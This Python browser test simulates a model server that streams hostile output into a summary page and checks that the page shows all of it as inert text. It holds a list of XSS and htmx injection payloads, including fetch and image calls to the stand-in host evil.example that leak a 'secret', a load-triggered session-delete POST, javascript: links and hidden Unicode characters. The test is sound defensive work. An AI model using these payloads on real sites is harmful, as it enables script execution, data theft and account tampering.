"""A model server that attacks the reader: what it sends is text, on each way to the page."""

from typing import Any

import pytest

from tests.browser.conftest import Visit
from tests.conftest import ARTICLE
from tests.support.answers import Answers
from tests.support.chromium import Visitor
from tests.support.model_server import Script
from tests.support.precis import Account, Precis

pytestmark = pytest.mark.browser

EVIL = "evil.example"
PAYLOADS = [
    f"<script>alert(1);fetch('http://{EVIL}/1')</script>",
    "</script><script>alert(2)</script>",
    f'<img src="http://{EVIL}/3.png" onerror="alert(3)">',
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
    f'<svg><use href="http://{EVIL}/6.svg#x"/><image href="http://{EVIL}/6.png"/></svg>',
    f'<div hx-get="http://{EVIL}/7" hx-trigger="load" hx-target="body">seven</div>',
    '<div data-hx-get="/session/new" data-hx-trigger="load" hx-on:load="alert(8)">eight</div>',
    '<hx-partial hx-target="body" hx-swap="innerHTML"><h1>Owned</h1></hx-partial>',
    '</hx-partial></section><div hx-sse:connect="/documents/events?ids=1" hx-trigger="load">ten</div>',
    '<form action="/documents/1/delete" method="post" hx-post="/session/delete" hx-trigger="load"><button>Go</button></form>',
    f"![image](http://{EVIL}/12.png?q=secret)",
    f"[press here](http://{EVIL}/13) and [this](javascript:alert(13)) and <http://{EVIL}/13b>",
    f"[ref]: http://{EVIL}/14 'x'",
    f'<iframe src="http://{EVIL}/15" srcdoc="<script>alert(15)</script>"></iframe><object data="x"></object>',
    f'<style>@import "http://{EVIL}/16.css"; body {{ display: none }}</style><link rel="stylesheet" href="http://{EVIL}/16b.css">',
    f'<base href="http://{EVIL}/"><meta http-equiv="refresh" content="0;url=http://{EVIL}/17">',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(18)&gt;\">",
    "<a href=\"jav&#x09;ascript:alert(19)\" onclick=alert(19) style=\"position:fixed;inset:0\" autofocus tabindex=1 onfocus=alert(19)>x</a>",
    "<details open ontoggle=alert(20)><template><script>alert(20)</script></template><!-- ",
    "`<img src=x onerror=alert(21)>` {{ 7*7 }} ${7*7} <%= 7*7 %>",
]  # fmt: skip
HIDDEN = "reversed \u202edrow\u202c tagged \U000e0041\U000e0042 zero\u200bwidth"
ATTACK = (
    "\n".join(f"- marker-{number:02} {payload}" for number, payload in enumerate(PAYLOADS, 1))
    + f"\n- {HIDDEN}"
)
SOURCE = f"{ARTICLE}\n\nThe address {EVIL} is named here, so that a summary may name it.\n\n" + "\n\n".join(
    PAYLOADS
)

# What of the page's summary is more than text: attributes, and elements that text does not need. Links to passages of
# this very document are ours, if they are nothing else.
STRANGE = """
() => [...document.querySelectorAll('.summary__words *, .summary__draft *, .summary__text *')].filter(element => !(
  element.matches('span') && /^passages( passages--none)?$|^passages__flag$/.test(element.className)
    && element.attributes.length === 1
  || element.matches('a.passage-link') && /^\\d+$/.test(element.textContent)
    && /^[/]documents[/]\\d+#p-\\d+$/.test(element.getAttribute('href'))
    && element.getAttributeNames().sort().join() === 'aria-label,class,data-passage,data-quote,href'
)).flatMap(element => [
  ...[...element.attributes].map(a => `${element.tagName} ${a.name}=${a.value}`).filter(a => !a.startsWith('UL class=prose-list')),
  ...(/^(P|BR|UL|OL|LI|STRONG|EM|S|CODE|PRE|BLOCKQUOTE|H3|H4|TABLE|THEAD|TBODY|TR|TH|TD)$/.test(element.tagName) ? [] : [element.tagName]),
])
"""
LIVE = "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^(data-)?hx-/.test(a.name)).length"


def harmless(visitor: Visitor) -> None:
    """Assert that nothing of the attack has become more than text."""
    assert visitor.page.evaluate(STRANGE) == []
    assert visitor.page.locator("body").is_visible()
    assert visitor.page.get_by_role("heading", name="Owned").count() == 0
    assert visitor.problems == []


def test_nothing_that_a_model_says_is_more_than_text(
    reader: Visitor, visit: Visit, scripted: Precis, bob: Account, answers: Answers
) -> None:
    title = "Attack <img src=x onerror=alert(0)> <script>alert(0)</script>"
    gate = answers.gate()
    attack = Script.deltas([ATTACK[at : at + 9] for at in range(0, len(ATTACK), 9)], every=0.003)
    held: Any = attack.but(events=(*attack.events, gate.is_set))
    answers.give(title, held)
    path = reader.write(title, SOURCE)
    reader.sees("processing", words=f"marker-{len(PAYLOADS)}")
    harmless(reader)
    live = reader.page.evaluate(LIVE)
    second = visit(scripted.address, bob)
    second.open(path)
    second.sees("processing", words=f"marker-{len(PAYLOADS)}")
    harmless(second)
    assert second.page.evaluate(LIVE) == live
    gate.set()
    for visitor in (reader, second):
        visitor.sees("complete", words=f"marker-{len(PAYLOADS)}")
        harmless(visitor)
        assert visitor.page.evaluate(LIVE) < live
        shown = visitor.text.inner_text()
        assert [n for n in range(1, len(PAYLOADS) + 1) if f"marker-{n:02}" not in shown] == []
        assert not set(shown) & set("\u202e\u202c\u200b\U000e0041\U000e0042")
    reader.open(path)
    harmless(reader)
    second.open("/")
    second.page.get_by_role("link", name="Attack").wait_for()
    assert second.page.locator(".row__gist *").count() == 0
